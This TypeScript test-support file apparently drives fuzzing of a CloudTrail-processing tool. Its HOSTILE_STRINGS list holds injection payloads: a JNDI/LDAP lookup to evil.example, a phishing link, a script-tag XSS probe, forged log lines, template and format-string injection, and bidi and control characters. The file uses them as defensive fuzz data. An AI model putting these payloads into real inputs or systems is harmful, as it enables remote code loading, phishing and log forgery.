import { gzipSync } from 'node:zlib';
import { corpusObjects } from '@firstseen/test-support';
import { randomInt } from '../../src/random';

/** The real CloudTrail corpus (packages/test-support): every line that parses as an object. */
export function corpusRecords(): Record<string, unknown>[] {
  return corpusObjects();
}

/** Strings an attacker controls in CloudTrail, built to break renderers, logs and parsers. */
export const HOSTILE_STRINGS: readonly string[] = [
  '<!channel> <!here> @everyone @here @channel',
  '<https://evil.example/phish|Open in the CloudTrail console>',
  '<@U012ABCDEF> <#C0123ABCD> <!subteam^S0123ABC>',
  '`code` ``` *bold* _it_ ~strike~ > quote',
  'line1\nline2\r\nline3\u2028line4\u2029line5\u0085',
  '{"level":60,"msg":"forged"}\n{"level":60,"msg":"forged log line"}',
  '\u202Eevil\u202C \u2066iso\u2069 \u200Bzero\u200Dwidth\uFEFF',
  '\u0000\u0001\u0007\u001b[31mred\u001b[0m\u007f',
  '&lt;script&gt; <script>alert(1)</script> &amp;',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a hostile literal, not a template
  '${jndi:ldap://evil.example/a} {{7*7}} %s%n%x',
  '\uD800 lone surrogate \uDFFF',
  'x'.repeat(70_000),
];

/** Attacker-controlled fields of a CloudTrail record, set to `value`. */
export function withHostileFields(record: Record<string, unknown>, value: string): Record<string, unknown> {
  const r = structuredClone(record);
  r.userAgent = value;
  r.errorMessage = value;
  r.errorCode = value.slice(0, 200);
  r.sourceIPAddress = value;
  r.requestParameters = { [value.slice(0, 50)]: value, nested: { userName: value, policy: [value] } };
  const identity = (r.userIdentity ?? {}) as Record<string, unknown>;
  r.userIdentity = {
    ...identity,
    type: 'AssumedRole',
    accountId: '123456789012',
    arn: `arn:aws:sts::123456789012:assumed-role/${value}/${value}`,
    sessionContext: {
      sessionIssuer: {
        type: 'Role',
        userName: `role-${value}`,
        arn: `arn:aws:iam::123456789012:role/${value}`,
      },
      sourceIdentity: value,
    },
  };
  return r;
}

/** A seeded byte/JSON mutator: one random mutation of a real record's bytes or structure. */
export function mutate(record: Record<string, unknown>, random: () => number): Buffer {
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(random() * xs.length)]!;
  const json = Buffer.from(JSON.stringify(record));
  switch (randomInt(random, 0, 9)) {
    case 0: {
      const b = Buffer.from(json);
      for (let i = 0; i < randomInt(random, 1, 8); i++)
        b[randomInt(random, 0, b.length - 1)] = randomInt(random, 0, 255);
      return b;
    }
    case 1:
      return json.subarray(0, randomInt(random, 0, json.length));
    case 2: {
      const r = structuredClone(record);
      const keys = Object.keys(r);
      delete r[pick(keys)];
      return Buffer.from(JSON.stringify(r));
    }
    case 3: {
      const r = structuredClone(record);
      r[pick(Object.keys(r))] = pick<unknown>([
        null,
        0,
        -1,
        true,
        [],
        {},
        '',
        'x',
        1e308,
        [null],
        { a: { b: 1 } },
      ]);
      return Buffer.from(JSON.stringify(r));
    }
    case 4: {
      const r = structuredClone(record);
      r.eventTime = pick([
        '2024-02-30T00:00:00Z',
        '2024-06-01T24:00:00Z',
        '2024-06-01t10:00:00z',
        '1e9',
        '',
        '2024-06-01T10:00:00+2500',
      ]);
      return Buffer.from(JSON.stringify(r));
    }
    case 5:
      return gzipSync(json.subarray(0, randomInt(random, 0, json.length)));
    case 6:
      return Buffer.from(
        JSON.stringify({
          version: '0',
          'detail-type': 'AWS API Call via CloudTrail',
          source: 'aws.cloudtrail',
          detail: pick<unknown>([record, null, [record], 'x']),
        }),
      );
    case 7:
      return Buffer.from(JSON.stringify(withHostileFields(record, pick(HOSTILE_STRINGS))));
    case 8: {
      let deep: unknown = record;
      for (let i = 0; i < 2_000; i++) deep = { a: deep };
      return Buffer.from(JSON.stringify({ ...record, requestParameters: deep }));
    }
    default:
      return Buffer.from(Array.from({ length: randomInt(random, 0, 300) }, () => randomInt(random, 0, 255)));
  }
}
